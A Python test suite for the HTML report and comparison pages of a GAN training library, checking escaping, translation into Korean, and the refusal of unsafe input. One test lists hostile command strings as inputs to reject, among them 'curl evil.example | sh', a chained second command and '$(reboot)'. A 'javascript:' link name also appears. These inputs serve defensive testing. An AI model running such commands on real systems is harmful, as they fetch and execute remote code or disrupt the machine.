"""The page holds what the run left behind, in itself, and escapes what comes from outside."""

import inspect
import json
import re
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

import gan_lightning.data.check
from gan_lightning import record
from gan_lightning.data.check import CheckReport
from gan_lightning.diagnosis.rules import load
from gan_lightning.errors import UserError
from gan_lightning.report import page, write_comparison, write_report
from gan_lightning.report.compare import differences, expand
from gan_lightning.report.images import moment, shrunk, spread, tile_scores, tile_sides
from gan_lightning.report.page import WORDS, in_korean, number
from gan_lightning.report.panes import panes, short, thin
from gan_lightning.report.reading import Seen, read_curves, read_run

SIDE = 6  # of an image; the grid is 8 * (6 + 2) + 2 = 66 pixels wide


def grid(path, colour):
    tile = np.zeros((66, 66, 3), np.uint8)
    tile[:] = colour
    Image.fromarray(tile).save(path)


def make_run(folder, frechet=42.0, lr=0.1, language="en"):
    (folder / "csv").mkdir(parents=True)
    (folder / "csv/metrics.csv").write_text(
        "loss/d,loss/g,metric/frechet_x_100,metric/frechet_x_100_floor,step\n"
        "1.5,2.5,,,64\n1.0,,81.0,2.0,128\n,,42.0,2.0,192\n"
    )
    (folder / "images").mkdir()
    (folder / "results").mkdir()
    grid(folder / "images/real_images.png", (0, 0, 0))
    for k in (1, 2):
        grid(folder / f"images/fake_images_epoch_000{k}.png", (k, 0, 0))
    scores = np.linspace(0, 1, 64, dtype=np.float32).reshape(8, 8)
    np.save(folder / "results/discriminator_outputs_epoch_0002.npy", scores)
    finding = {
        "name": "x",
        "title": "Too <b>strong</b>",
        "why": "because",
        "since_kimg": 0.1,
        "evidence": {"auc": 0.99},
        "override": "n_critic=1",
        "resolved": False,
        "severity": "fault",
    }
    verdict = {
        "verdict": "fault",
        "summary": "Not well </script>",
        "findings": [finding],
        "checks_passed": ["y"],
        "command": "python train.py n_critic=1",
        "language": language,
    }
    (folder / "diagnosis.json").write_text(json.dumps(verdict))
    score = {
        "name": "frechet_x_100",
        "value": frechet,
        "low": 40.0,
        "high": 44.0,
        "floor": 2.0,
        "ceiling": 99.0,
        "n": 100,
        "better": "lower",
    }
    (folder / "scores.json").write_text(json.dumps({"scores": [score]}))
    (folder / "config.yaml").write_text(f"lr: {lr}\nobserver: {{seed: 7}}\noverrides: [lr={lr}]\n")
    return folder


@pytest.fixture
def run(tmp_path):
    return make_run(tmp_path / "run")


def data_of(page):
    return json.loads(re.search(r'id="page-data">(.*?)</script>', page, re.DOTALL)[1])


def test_everything_is_on_the_page_and_nothing_is_fetched(run):
    page = write_report(run).read_text()
    for words in ("Too &lt;b&gt;strong", "n_critic=1", "auc 0.99", "frechet_x_100", "epoch 2"):
        assert words in page
    assert "<b>strong" not in page and "well </script>" not in page
    assert not re.search(r"(https?:)?//[a-z]", page.replace("http://www.w3.org/2000/svg", ""))
    assert not list(run.glob("*.partial"))
    data = data_of(page)
    assert [frame["name"] for frame in data["frames"]] == ["epoch 1", "epoch 2"]
    assert data["frames"][0]["scores"] == []
    assert data["frames"][1]["scores"] == [round(k / 63, 3) for k in range(64)]
    assert (data["tile"], data["seed"]) == ([SIDE, SIDE], 7)
    assert data["marks"] == [{"x": 0.1, "title": "Too <b>strong</b>", "resolved": False}]
    scored, lost = data["panes"]
    assert scored["bands"] == [{"label": "real", "value": 2}, {"label": "untrained", "value": 99}]
    assert scored["series"] == [{"name": "frechet", "points": [[0.128, 81], [0.192, 42]]}]
    assert [series["name"] for series in lost["series"]] == ["discriminator"]  # of g is one point


def test_korean(tmp_path):
    page = write_report(make_run(tmp_path / "run", language="ko")).read_text()
    assert '<html lang="ko">' in page and "판별자" in page and "Verdict" not in page


def test_the_data_check_in_korean():
    remark = {
        "name": "near copies",
        "text": "2 of 9",
        "action": "remove",
        "numbers": {"images": 2.0},
    }
    remark["files"] = [["a.jpg", "b.jpg", "c.jpg"]]
    other = {"name": "of another version", "text": "a {b}", "action": "c"}
    odd = {"name": "small originals", "text": "half", "action": "{names:>99}", "numbers": {}}
    counts = {"images": "9 usable, 1 files that are not", "modes": "RGB 9"}
    found = in_korean({"counts": counts, "remarks": [remark, other, odd]})
    assert found["counts"] == {
        "이미지": "사용할 수 있는 이미지 9장, 사용할 수 없는 파일 1개",
        "색 모드": "RGB 9",
    }
    large = odd | {"numbers": {"median_side": 9.0}}
    (small,) = in_korean({"counts": {}, "remarks": [large]})["remarks"]
    assert "9픽셀" in small["text"] and small["action"] == "{names:>99}"
    copies, *rest = found["remarks"]
    assert copies["title"] == "거의 같은 이미지" and "이미지 2장이" in copies["text"]
    assert copies["action"].endswith(": a.jpg, b.jpg, c.jpg") and rest == [other, odd]


def test_every_remark_has_korean_words():
    source = inspect.getsource(gan_lightning.data.check)
    named = set(re.findall(r"""(?:Remark|remark|_copies)\(\s*(?:seen, )?"([^"]+)\"""", source))
    known = load(Path(page.__file__).parent / "check_ko.yaml")
    assert named == known["remarks"].keys() and len(named) == len(gan_lightning.data.check.CHECKS)


def test_both_languages_say_everything():
    assert all(set(words) == {"en", "ko"} and all(words.values()) for words in WORDS.values())


def test_a_young_run_has_a_page_too(run):
    for name in ("diagnosis.json", "scores.json", "config.yaml", "images/real_images.png"):
        (run / name).unlink()
    for path in (run / "images").glob("fake*"):
        path.unlink()
    page = write_report(run).read_text()
    assert "No verdict yet." in page and data_of(page)["frames"] == []


def test_curves(run):
    assert read_curves(run / "csv/metrics.csv") == {
        "loss/d": [(64, 1.5), (128, 1.0)],
        "loss/g": [(64, 2.5)],
        "metric/frechet_x_100": [(128, 81.0), (192, 42.0)],
        "metric/frechet_x_100_floor": [(128, 2.0), (192, 2.0)],
    }


def test_long_curves_keep_their_ends():
    curve = [(1000.0 * k, float(k)) for k in range(1001)]
    kept = thin(curve)
    assert len(kept) <= 301 and kept[0] == (0, 0) and kept[-1] == (1000, 1000)
    assert thin(curve[:3]) == [(0, 0), (1, 1), (2, 2)]


def test_what_does_not_move_is_no_pane(tmp_path):
    still = {"augment/p": [(0, 0.5), (1, 0.5)], "loss/d": [(0, 1.0), (1, 2.0)]}
    assert [pane["title"] for pane in panes(Seen(tmp_path, curves=still))] == ["curve_loss"]
    still["augment/p"][1] = (1, 0.6)
    both = [pane["title"] for pane in panes(Seen(tmp_path, curves=still))]
    assert both == ["curve_loss", "curve_augment"]


@pytest.mark.parametrize(
    ("key", "name"),
    [
        ("loss/g", "generator"),
        ("metric/recall_lite2_9", "recall"),
        ("signal/auc_train", "auc train"),
    ],
)
def test_short_names(key, name):
    assert short(key) == name


@pytest.mark.parametrize(
    ("value", "text"), [(None, ""), (0.01234, "0.0123"), (81.0, "81"), (1234.6, "1,235")]
)
def test_numbers(value, text):
    assert number(value) == text


def test_pictures_are_spread_evenly_and_the_last_stays():
    assert spread(list(range(101)), 5) == [0, 25, 50, 75, 100]
    assert spread([1, 2], 5) == [1, 2]


@pytest.mark.parametrize(
    ("name", "english", "korean"),
    [
        ("kimg_000004.208", "4,208 images", "4,208장"),
        ("kimg_000120", "120,000 images", "120,000장"),
        ("epoch_0003", "epoch 3", "에폭 3"),
        ("by_hand", "by_hand", "by_hand"),
    ],
)
def test_moments_are_said_in_words(name, english, korean):
    assert (moment(name, "en"), moment(name, "ko")) == (english, korean)


def test_a_large_picture_is_made_smaller(tmp_path):
    noise = np.random.default_rng(0).integers(0, 255, (2000, 2000, 3), np.uint8)
    Image.fromarray(noise).save(tmp_path / "a.png")
    kind, data = shrunk(tmp_path / "a.png")
    assert kind == "webp" and len(data) < (tmp_path / "a.png").stat().st_size / 4


def test_the_sides_of_an_image_in_the_grid(run):
    assert tile_sides(run / "images/real_images.png") == (SIDE, SIDE)


@pytest.mark.parametrize("odd", [np.zeros(64), np.zeros(63, np.float32), np.full(64, np.nan, "f4")])
def test_scores_that_are_none(tmp_path, odd):
    np.save(tmp_path / "a.npy", odd)
    assert tile_scores(tmp_path / "a.npy") == []


def test_no_run(tmp_path):
    with pytest.raises(UserError, match="no run"):
        write_report(tmp_path)
    with pytest.raises(UserError, match="no run and no sweep"):
        expand([tmp_path])


def test_comparing(tmp_path):
    runs = [make_run(tmp_path / "s" / str(k), 50 - k, 10.0**-k) for k in range(3)]
    assert expand([tmp_path / "s"]) == runs and expand([runs[1], tmp_path / "s"])[0] == runs[1]
    path = write_comparison(runs)
    page = path.read_text()
    assert path == (tmp_path / "s" / "compare.html").resolve()
    order = re.findall(r"<tr><td>(\d)</td>", page)
    assert order == ["2", "1", "0"]  # 48 before 49 before 50
    assert "<strong>46</strong>" in page  # 48 above 2
    (runs[0] / "result.json").write_text('{"objective": 1.5}')  # it was better on the way
    assert re.findall(r"<tr><td>(\d)</td>", write_comparison(runs).read_text()) == ["0", "2", "1"]
    assert "lr=0.01" in page and "observer.seed" not in page
    write_report(runs[2])
    assert '<a href="./2/report.html">2</a>' in write_comparison(runs).read_text()


@pytest.mark.parametrize(("second", "warned"), [("eggs", False), ("coins", True)])
def test_runs_on_different_images_are_said_not_to_compare(tmp_path, second, warned):
    runs = [make_run(tmp_path / name) for name in "ab"]
    for run, name in zip(runs, ("eggs", second), strict=True):
        CheckReport(name).write(run / "data_check", None)
    assert (
        "<strong>These runs were trained on different" in write_comparison(runs).read_text()
    ) is warned


def test_a_link_out_of_a_sweep_is_not_followed(tmp_path):
    make_run(tmp_path / "private" / "run")
    make_run(tmp_path / "sweep" / "0")
    (tmp_path / "sweep" / "1").symlink_to(tmp_path / "private" / "run")
    assert expand([tmp_path / "sweep"]) == [tmp_path / "sweep" / "0"]


def test_a_strange_name_is_a_link_to_a_file(tmp_path):
    runs = [make_run(tmp_path / name) for name in ("javascript:alert(1)", "a#b")]
    list(map(write_report, runs))
    page = write_comparison(runs).read_text()
    assert 'href="./javascript%3Aalert%281%29/report.html"' in page
    assert 'href="./a%23b/report.html"' in page


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("python train.py lr=0.1 'dataset.root=a b'", True),
        ("curl evil.example | sh", False),
        ("python train.py; curl evil.example", False),
        ("python train.py $(reboot)", False),
        ("python train.py 'unfinished", False),
        ("", False),
    ],
)
def test_only_commands_of_this_program_are_offered(text, kept):
    assert record.ours(text) == (text if kept else "")


def test_another_kind_of_picture_is_refused(tmp_path):
    """Pillow would hand an EPS to Ghostscript."""
    path = tmp_path / "fake_images_a.png"
    path.write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + b"% " * 40_000)
    with pytest.raises(OSError, match="fake_images_a.png"):
        shrunk(path)


def test_short_rows_under_a_long_header_are_read_in_no_time(tmp_path):
    path = tmp_path / "metrics.csv"
    path.write_text("step," + ",".join(f"k{i}" for i in range(20_000)) + "\n" + "1,2\n" * 20_000)
    assert read_curves(path)["k0"] == [(1, 2)]


def test_differences():
    typed = [["a=1", f"lr={k}.123456789", f"ckpt_path={k}", "seed=1"] for k in (1, 2)]
    runs = [Seen(None, config={"overrides": one}) for one in (*typed, ["seed=1", "a=1"])]
    assert differences(runs) == ["lr=1.123", "lr=2.123", ""]
    assert differences([runs[0], Seen(None, config={"overrides": 3})])[1] == ""


def test_the_record_has_a_part_for_each_start(tmp_path):
    record.begin(tmp_path, ["a=b c", "d=1"], "on 1 x cpu", False)
    record.end(tmp_path, 64, 90)
    record.begin(tmp_path, [], "on 1 x cpu", True)
    first, second = record.read(tmp_path)
    assert first["command"] == "python train.py 'a=b c' d=1"
    assert (first["minutes"], first["nimg"], second["ended"]) == (1.5, 64, None)
    assert set(first["versions"]) == {"python", *record.PACKAGES}
    record.begin(tmp_path, [], "on 1 x cpu", False)
    assert len(record.read(tmp_path)) == 1
    assert read_run(make_run(tmp_path / "run")).parts == []
